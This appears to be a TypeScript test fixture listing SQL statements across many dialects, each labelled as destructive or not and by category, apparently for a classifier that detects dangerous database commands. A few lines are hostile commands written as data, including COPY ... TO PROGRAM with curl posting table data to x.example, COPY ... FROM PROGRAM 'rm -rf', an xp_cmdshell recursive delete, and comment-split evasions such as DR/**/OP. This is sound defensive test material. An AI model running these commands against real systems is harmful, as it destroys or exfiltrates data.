/** Statements of many dialects. */
export const further = String.raw`
D data tables=orders :: DELETE o FROM orders o JOIN users u ON u.id=o.uid WHERE u.id=1
D data tables=a,b dialect=mysql :: DELETE a, b FROM a INNER JOIN b ON a.id=b.id
D data tables=orders :: COPY orders FROM PROGRAM 'rm -rf /var/lib/x'
D data/unknown/message tables=orders :: COPY orders TO PROGRAM 'curl -d @- https://x.example'
D data tables=orders :: WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
D data tables=orders dialect=mssql :: DELETE TOP (500) FROM orders
D data tables=orders dialect=snowflake :: DROP TABLE IF EXISTS orders CASCADE
- data/config tables=orders dialect=snowflake :: UNDROP TABLE orders
D data tables=ds.orders dialect=bigquery :: CREATE OR REPLACE TABLE ds.orders AS SELECT 1 AS a
D data dialect=clickhouse tables=orders :: ALTER TABLE orders DROP PARTITION '2024'
D data dialect=clickhouse tables=orders :: ALTER TABLE orders DELETE WHERE 1=1
D data dialect=mysql tables=users :: /*!50000 DROP TABLE users */
D data dialect=mysql tables=orders :: ALTER TABLE orders TRUNCATE PARTITION p0
D data dialect=mysql tables=orders :: REPLACE INTO orders VALUES (1)
D data dialect=oracle tables=orders :: DROP TABLE orders PURGE
D data dialect=oracle :: PURGE RECYCLEBIN
D data dialect=oracle tables=orders :: FLASHBACK TABLE orders TO TIMESTAMP SYSDATE-1
- read tables=orders :: EXPLAIN DELETE FROM orders
D data tables=orders :: EXPLAIN ANALYZE DELETE FROM orders
D data tables=orders :: BEGIN; DELETE FROM orders; COMMIT;
- data/read/config tables=orders :: BEGIN; DELETE FROM orders; ROLLBACK;
D data tables=orders :: DO $$ BEGIN DELETE FROM orders; END $$
- unknown :: DR/**/OP TABLE x
- read :: SELECT '; DROP TABLE x; --'
D data/infra/unknown :: SELECT lo_unlink(1)
- infra/data/unknown/config :: SELECT pg_terminate_backend(1)
D data tables=orders :: MERGE INTO orders t USING s ON t.id=s.id WHEN MATCHED THEN DELETE
- data tables=orders :: INSERT INTO orders SELECT * FROM b
- config tables=orders :: CREATE INDEX i ON orders (a)
- config tables=orders :: ALTER TABLE orders ADD COLUMN a int
D data tables=orders :: ALTER TABLE orders DROP COLUMN a
D data :: DROP SCHEMA app CASCADE
D data :: DROP DATABASE shop
- config :: GRANT SELECT ON orders TO bob
- config :: CREATE USER bob
D data/unknown dialect=mssql :: EXEC xp_cmdshell 'del /s /q C:\data'
D data dialect=mssql tables=orders :: EXEC sp_executesql N'DELETE FROM orders'
- unknown dialect=mssql :: EXEC cleanup_old_orders
- unknown :: CALL cleanup_old_orders()
D data dialect=databricks tables=orders :: VACUUM orders RETAIN 0 HOURS
D data dialect=hive tables=orders :: INSERT OVERWRITE TABLE orders SELECT * FROM b
D data dialect=bigquery tables=ds.orders :: TRUNCATE TABLE ds.orders
D data dialect=bigquery :: DROP SCHEMA ds CASCADE
D data dialect=snowflake tables=orders :: TRUNCATE TABLE IF EXISTS orders
D data dialect=snowflake :: REMOVE @stage/path
- read dialect=snowflake :: SHOW TABLES LIKE 'a%'
- read dialect=mysql :: SHOW PROCESSLIST
- infra/data/config dialect=mysql :: KILL 42
D data dialect=mysql :: PURGE BINARY LOGS BEFORE '2024-01-01'
D data/infra/config dialect=mysql :: DROP USER bob
D data dialect=sqlite tables=orders :: DELETE FROM orders
- config/read dialect=sqlite :: PRAGMA journal_mode=WAL
- read :: VALUES (1)
- data/config/read :: SELECT * INTO backup FROM orders
- read :: SELECT * FROM orders FOR UPDATE
D data tables=orders :: UPDATE orders SET a=1
- read tables=deleted_users :: SELECT * FROM deleted_users WHERE drop_reason='x'
D data dialect=mssql tables=dbo.orders :: TRUNCATE TABLE dbo.orders
D data dialect=mssql :: DROP TABLE #tmp, dbo.orders
D data/infra dialect=mssql :: RESTORE DATABASE shop FROM DISK='x' WITH REPLACE
- data/config/infra dialect=mssql :: BACKUP DATABASE shop TO DISK='x'
D data/infra dialect=mssql :: ALTER DATABASE shop SET OFFLINE WITH ROLLBACK IMMEDIATE; DROP DATABASE shop
D data tables=orders :: LOCK TABLE orders; TRUNCATE orders
D data tables=events :: SELECT drop_chunks('events', INTERVAL '1 day')
D data dialect=clickhouse :: SYSTEM DROP REPLICA 'r1'
- read/config :: ANALYZE orders
- config/data/infra/read :: VACUUM FULL orders
- config/data/infra/read :: REINDEX TABLE orders
D data dialect=duckdb tables=orders :: DROP TABLE orders
- read dialect=duckdb :: FROM orders SELECT *
- data/read/config dialect=duckdb :: COPY orders TO 'x.parquet'
- read dialect=snowflake :: SELECT a:b::string FROM orders QUALIFY row_number() OVER (ORDER BY a)=1
D data :: DROP MATERIALIZED VIEW a; DROP TABLE b
D data tables=public.users :: DELETE FROM public.users USING orders WHERE users.id=orders.uid
D data tables=t :: TRUNCATE TABLE ONLY t RESTART IDENTITY CASCADE
D data tables=a,b :: DROP TABLE a, b CASCADE
D data :: DROP OWNED BY bob
- config :: DROP INDEX CONCURRENTLY i
D data tables=t :: ALTER TABLE t DROP COLUMN IF EXISTS a CASCADE
- config tables=t :: ALTER TABLE t RENAME TO u
- config tables=t :: ALTER TABLE t ALTER COLUMN a SET NOT NULL
D data tables=t :: WITH x AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM x)
- read :: WITH x AS (SELECT 1) SELECT * FROM x
D data tables=t :: INSERT INTO u SELECT * FROM t; DELETE FROM t
D data tables=t dialect=mysql :: TRUNCATE t
D data tables=t dialect=mysql :: DELETE QUICK FROM t LIMIT 10
- data tables=t dialect=mysql :: INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a=1
- read dialect=mysql :: SHOW CREATE TABLE t
- config/data tables=t dialect=mysql :: OPTIMIZE TABLE t
D data tables=t dialect=mysql :: ALTER TABLE t DROP PARTITION p1
- config/infra dialect=mysql :: SET GLOBAL read_only = 1
D data tables=t dialect=mssql :: DELETE t FROM t JOIN u ON t.id=u.id
D data tables=t dialect=mssql :: WITH c AS (SELECT *, ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) r FROM t) DELETE FROM c WHERE r > 1
D data dialect=mssql :: EXEC sp_MSforeachtable 'DELETE FROM ?'
- read dialect=mssql :: SELECT TOP 10 * FROM t WITH (NOLOCK)
- read dialect=mssql :: EXEC sp_who2
D data tables=t dialect=mssql :: TRUNCATE TABLE t WITH (PARTITIONS (1))
D data tables=t dialect=oracle :: DELETE t WHERE a=1
D data dialect=oracle :: BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;
D data/config dialect=oracle :: DROP USER bob CASCADE
- read dialect=oracle :: SELECT * FROM dual
D data tables=t dialect=oracle :: ALTER TABLE t SET UNUSED (a)
D data dialect=snowflake :: DROP DATABASE shop
D data tables=t dialect=snowflake :: DELETE FROM t USING s WHERE t.id=s.id
D data tables=t dialect=snowflake :: INSERT OVERWRITE INTO t SELECT * FROM s
- data/config dialect=snowflake :: CREATE TABLE a CLONE b
- infra/config dialect=snowflake :: ALTER WAREHOUSE w SUSPEND
- data/config dialect=snowflake tables=t :: ALTER TABLE t SWAP WITH u
D data tables=ds.t dialect=bigquery :: DELETE FROM ds.t WHERE TRUE
D data tables=ds.t dialect=bigquery :: MERGE ds.t t USING ds.s s ON t.id=s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
- data/config dialect=bigquery :: DROP ALL ROW ACCESS POLICIES ON ds.t
- read dialect=bigquery :: SELECT * FROM ds.t FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)
- data/config dialect=bigquery :: EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT * FROM ds.t
D data dialect=redshift tables=t :: TRUNCATE t
- data/config dialect=redshift :: UNLOAD ('SELECT * FROM t') TO 's3://b/' IAM_ROLE 'x'
D data dialect=hive tables=t :: ALTER TABLE t DROP IF EXISTS PARTITION (d='2024')
D data dialect=hive :: DROP DATABASE IF EXISTS raw CASCADE
D data dialect=databricks tables=t :: DELETE FROM t
D data dialect=databricks tables=t :: RESTORE TABLE t TO VERSION AS OF 1
- read dialect=databricks :: DESCRIBE HISTORY t
D data dialect=clickhouse :: DROP DATABASE shop
D data dialect=clickhouse tables=t :: TRUNCATE TABLE IF EXISTS t ON CLUSTER c
- infra/config/data dialect=clickhouse :: SYSTEM STOP MERGES
D data dialect=sqlite :: DROP TABLE IF EXISTS t; VACUUM;
- read dialect=sqlite :: PRAGMA table_info(t)
D data dialect=sqlite tables=t :: DELETE FROM t WHERE rowid IN (1,2)
- data dialect=duckdb :: CREATE TABLE a AS SELECT * FROM read_csv('x.csv')
- unknown :: FROBNICATE TABLE t
- unknown :: DEL/**/ETE FROM t
- config/read :: SET search_path TO app
- read :: SHOW search_path
D data :: BEGIN; SAVEPOINT a; DELETE FROM t; ROLLBACK TO a; DELETE FROM u; COMMIT
- data/config/read :: START TRANSACTION; DROP TABLE t; ROLLBACK
`;
